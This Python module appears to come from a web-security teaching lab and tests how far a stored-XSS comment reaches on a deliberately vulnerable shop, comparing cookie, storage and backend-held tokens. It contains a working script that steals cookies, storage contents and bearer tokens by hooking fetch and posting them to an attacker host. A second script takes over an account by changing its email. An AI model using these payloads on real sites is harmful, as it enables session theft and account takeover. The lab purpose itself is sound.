"""A stranger's script runs on the shop's pages: what it reads, carries off, and does."""

from __future__ import annotations

import json
import time

from labserver.kit.browser.people import (
    USER,
    comment,
    log_in_at_app,
    log_in_at_bff,
    log_in_at_site,
)
from labserver.kit.browser.tab import Tab
from labserver.kit.browser.web import EVIL, Web
from labserver.kit.lab import Lab

WEAK, READABLE = "unescaped-comments", "readable-cookie"

STEAL = """<script>
const real = window.fetch.bind(window);
const loot = { cookie: document.cookie, seen: [] };
Object.assign(loot, { local: { ...localStorage }, session: { ...sessionStorage } });
const send = () => real("EVIL/loot", { method: "POST", mode: "no-cors", body: JSON.stringify(loot) });
window.fetch = async (place, options) => {
  const sent = new Request(place, options).headers.get("Authorization");
  const answer = await real(place, options);
  const text = await answer.clone().text();
  loot.seen.push({ sent, text });
  send();
  return answer;
};
send();
</script>"""
"""The comment that Mallory leaves: it reads what can be read, and puts itself in front of `fetch`."""

RIDE = """async () => {
  const me = await (await fetch("../FLOW/me")).json();
  const headers = { "Content-Type": "application/json", "X-CSRF-Token": me.csrf_token };
  const body = JSON.stringify({ email: "mallory@evil.example" });
  return (await fetch("../FLOW/email", { method: "POST", headers, body })).status;
}"""
"""What a script does without reading any credential: the browser adds the cookie."""


STORED = {"local storage": "local", "session storage": "session", "a variable": "memory"}
"""Where the app keeps its tokens, and what it calls that."""

STOLEN_SECONDS = 2.0
"""How long to wait for what a script sends."""


class Thief:
    """The attacker's end: what scripts have sent since it was last asked."""

    def __init__(self, web: Web) -> None:
        self._web, self._seen = web, 0
        self.forget()

    def forget(self) -> None:
        """Start again without what was kept."""
        self._seen = self._web.sites.recorded()["taken"]

    def so_far(self) -> str:
        """Return all that has come."""
        recorded = self._web.sites.recorded()
        new = recorded["taken"] - self._seen
        return "\n".join(recorded["loot"][-new:]) if new else ""

    def loot(self, word: str = "") -> str:
        """Wait until something with this word has come, and return all; after a while, what there is."""
        end = time.monotonic() + STOLEN_SECONDS
        while True:
            found = self.so_far()
            if (found and word in found) or time.monotonic() > end:
                return found
            time.sleep(0.02)


def plant(web: Web) -> Lab:
    """Leave the comment at the shop that does not escape it, unless it is there. Returns that shop."""
    lab, script = web.weak(WEAK), STEAL.replace("EVIL", web.sites.origin(EVIL))
    if script not in lab.client("mallory").get("/site/").text:
        comment(lab, script)
    return lab


def tokens_in(loot: str) -> dict[str, str]:
    """Find the token pair that a wrapped fetch has seen in an answer; {} if there was none."""
    for line in reversed(loot.splitlines()):
        for seen in json.loads(line)["seen"]:
            if '"access_token"' in seen["text"] and '"refresh_token"' in seen["text"]:
                pair: dict[str, str] = json.loads(seen["text"])
                return pair
    return {}


def script_gets(web: Web) -> dict[str, dict[str, bool]]:
    """Let the script loose on each place: {place: {"reads", "carries off", "acts": whether it could}}."""
    lab = plant(web)
    thief = Thief(web)
    tab = log_in_at_site(web, lab)
    sid = web.browser.jar(web.address("/", lab))["sid"]["value"]
    loot = thief.loot()
    acts = rides(tab, lab, "session")
    found = {"HttpOnly cookie": _row(sid in loot, sid in loot, acts)}
    tab.script("document.cookie = 'plain=a-credential; Path=/'")
    thief.forget()
    tab.reload()
    read = "a-credential" in thief.loot()
    found["plain cookie"] = _row(read, read, acts)
    tab.close()
    for place, called in STORED.items():
        thief.forget()
        tab = log_in_at_app(web, lab, called)
        stolen = tokens_in(thief.loot("access_token")).get("access_token", "")
        header = {"Authorization": f"Bearer {stolen}"}
        acts = lab.client("thief").get("/token/me", headers=header).ok
        thief.forget()
        tab.reload()
        lines = [json.loads(line) for line in thief.loot().splitlines()]
        read = any(JWT in json.dumps([line["local"], line["session"]]) for line in lines)
        found[place] = _row(read, bool(stolen), acts)
        tab.script("localStorage.clear(); sessionStorage.clear()")
        tab.close()
    return found


def bff_script_gets(web: Web) -> dict[str, bool]:
    """Let the same script loose on the app whose backend holds the tokens."""
    lab = plant(web)
    thief = Thief(web)
    tab = log_in_at_bff(web, lab)
    acts = rides(tab, lab, "bff")
    loot = thief.loot("csrf_token")
    sid = web.browser.jar(web.address("/", lab))["bff"]["value"]
    tab.close()
    return _row(sid in loot, sid in loot or JWT in loot, acts)


def rides(tab: Tab, lab: Lab, flow: str) -> bool:
    """Change Ada's address from a script of the page, without any credential in hand."""
    lab.user(USER, email="ada@example.org")
    status = tab.script(RIDE.replace("FLOW", flow))
    users = {user["username"]: user for user in lab.state().users}
    return bool(status == 200 and users[USER]["email"] == "mallory@evil.example")


JWT = "eyJ"
"""How every JWT begins: `{"` in base64url."""


def _row(reads: bool, carries_off: bool, acts: bool) -> dict[str, bool]:
    return {"reads it there": reads, "carries it off": carries_off, "acts as Ada": acts}
